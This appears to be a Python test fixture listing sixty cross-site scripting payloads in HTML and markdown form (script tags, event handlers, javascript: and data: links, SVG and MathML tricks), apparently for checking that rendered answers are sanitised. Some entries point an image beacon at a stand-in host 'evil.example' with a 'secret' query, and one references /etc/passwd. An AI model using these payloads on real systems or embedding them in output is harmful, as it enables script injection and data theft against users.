"""Sixty answers that would run a script, load something or lead somewhere, were they HTML."""

from __future__ import annotations

RUN = "window.hacked=1"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=data:text/javascript,{RUN}></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"\n\n<script>\n{RUN}\n</script>\n\n",
    f"<script type=module>import('data:text/javascript,{RUN}')</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<template><script>{RUN}</script></template>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?php <script>{RUN}</script> ?>",
    f"`code <script>{RUN}</script>`",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><script>{RUN}</script>\nx\n```',
    f"    <script>{RUN}</script>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div style='animation-name:x' onanimationstart={RUN}>",
    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={RUN}></b>",
    f"<select onfocus={RUN} autofocus>",
    f"<a onmouseover={RUN}>x</a>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | 2 |",
    f"- [ ] <img src=x onerror={RUN}>",
)
LINKS = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
    f"[x](blob:{RUN})",
    f"[x](file:///etc/passwd '{RUN}')",
    f"<javascript:{RUN}>",
    f"[x][r]\n\n[r]: javascript:{RUN}",
    f'[a](https://example.com/"onclick=\'{RUN}\' "t" )',
    f"[![i](javascript:{RUN})](javascript:{RUN})",
    "[the console](#/operations)",
    "[x](//evil.example/a)",
    "[x](/v1/models)",
)
PICTURES = (
    f"![x](javascript:{RUN})",
    f'![x](x"onerror="{RUN})',
    f'!["onerror="{RUN}](https://evil.example/pixel.png?secret)',
    "![x](https://evil.example/pixel.png)",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
)
SVG_AND_MATH = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"$$<img src=x onerror={RUN}>$$",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"\\(\\html{{<script>{RUN}</script>}}\\)",
)  # fmt: skip

ATTACKS = (*SCRIPTS, *HANDLERS, *LINKS, *PICTURES, *SVG_AND_MATH)
